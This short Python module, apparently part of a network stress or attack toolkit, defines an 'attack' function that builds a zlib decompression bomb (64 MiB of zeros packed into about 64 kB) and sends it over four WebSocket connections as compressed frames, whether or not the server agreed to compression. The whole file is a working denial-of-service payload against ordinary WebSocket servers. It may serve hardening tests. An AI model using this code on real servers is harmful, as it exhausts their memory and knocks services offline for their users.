"""Messages said to be compressed (RFC 7692), whether the server agreed or not: 64 MiB of zeros in 64 kB."""

import zlib

from wire import websocket
from wire.link import link


def bomb():
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    return deflate.compress(bytes(64 << 20)) + deflate.flush(zlib.Z_SYNC_FLUSH)


async def attack(target):
    packed = bomb()

    async def lane(number):
        async with link(target, target.source(number)) as it:
            if it:
                await websocket.upgraded(it, fields=[("sec-websocket-extensions", "permessage-deflate")])
                it.read_away()
                payload = packed if number % 2 else packed[:1000]
                await it.send(websocket.frame(websocket.BINARY, payload, extra=websocket.RSV1))
                await it.wait_closed()

    await target.lanes(4, lane)
